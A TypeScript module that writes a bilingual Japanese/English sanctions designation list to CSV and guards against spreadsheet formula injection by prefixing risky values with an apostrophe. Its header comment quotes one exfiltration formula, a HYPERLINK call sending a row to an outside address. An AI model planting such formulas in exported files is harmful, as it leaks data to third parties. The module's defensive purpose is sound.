import { addressLine } from '../domain/canonical';
import type { BilingualList, Designation } from '../domain/designation';

/**
 * The list as one CSV row per entry (RFC 4180, CRLF, UTF-8 with a byte-order mark so that Excel opens Japanese text
 * correctly). Lists within a cell are joined by "; ", in the order the list gives them.
 *
 * The list is outside input, and a compliance officer opens this file in a spreadsheet, which evaluates a cell
 * that begins with `=`, `+`, `-` or `@` (and, after a tab or CR, what follows) as a formula:
 * `=HYPERLINK("http://…?"&A1,"x")` in a name would send the row away. OWASP's rule: such a value gets a leading
 * `'`, which every spreadsheet shows as text. A value that already begins with `'` gets one too, so that the
 * original is always recovered the same way: drop one leading `'` from any value that has one. The rule applies to
 * each item of a "; "-joined list as well, since a spreadsheet set to split on `;` would start a cell there.
 */

/** What a spreadsheet reads as the start of a formula, and the escape itself (so that unescaping is exact). */
const FORMULA_START = /^[=+\-@\t\r']/;

/** A value a spreadsheet shows as it is: OWASP's `'` before a formula character. */
export function neutralized(value: string): string {
  return FORMULA_START.test(value) ? `'${value}` : value;
}


const COLUMNS: [string, (e: Designation) => string | readonly string[] | null][] = [
  ['key', (e) => e.key],
  ['regime_number', (e) => String(e.regime.number)],
  ['regime_title', (e) => e.regime.title],
  ['notice_number', (e) => e.noticeNumber],
  ['notice_marker', (e) => e.noticeMarker],
  ['entity_type', (e) => e.entityType],
  ['status', (e) => e.status],
  ['name_ja', (e) => e.name.ja],
  ['name_en', (e) => e.name.en],
  ...bilingual('aliases', (e) => e.aliases),
  ...bilingual('former_names', (e) => e.formerNames),
  ...bilingual('weak_aliases', (e) => e.weakAliases),
  ...bilingual('titles', (e) => e.titles),
  ...bilingual('positions', (e) => e.positions),
  ['dates_of_birth', (e) => e.datesOfBirth],
  ...bilingual('places_of_birth', (e) => e.placesOfBirth),
  ...bilingual('nationalities', (e) => e.nationalities),
  ['passport_numbers', (e) => e.passportNumbers],
  ['id_numbers', (e) => e.idNumbers],
  ['addresses_ja', (e) => e.addresses.map((a) => addressLine(a, 'ja')).filter(Boolean)],
  ['addresses_en', (e) => e.addresses.map((a) => addressLine(a, 'en')).filter(Boolean)],
  ['un_reference', (e) => e.unReference],
  ['un_listing_date', (e) => e.unListingDate],
  ['designated_on', (e) => e.designatedOn],
  ['amended_on', (e) => e.amendedOn],
  ['other_information', (e) => e.otherInformation],
];

function bilingual(name: string, pick: (e: Designation) => BilingualList): [string, (e: Designation) => readonly string[]][] {
  return [
    [`${name}_ja`, (e) => pick(e).ja],
    [`${name}_en`, (e) => pick(e).en],
  ];
}

export const CSV_COLUMNS = COLUMNS.map(([name]) => name);

export function exportCsv(entries: readonly Designation[]): string {
  const rows = [CSV_COLUMNS, ...entries.map((e) => COLUMNS.map(([, value]) => text(value(e))))];
  return `\uFEFF${rows.map((row) => row.map(cell).join(',')).join('\r\n')}\r\n`;
}

function text(value: string | readonly string[] | null): string {
  return typeof value === 'string' ? neutralized(value) : value === null ? '' : value.map(neutralized).join('; ');
}

function cell(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replace(/"/g, '""')}"` : value;
}
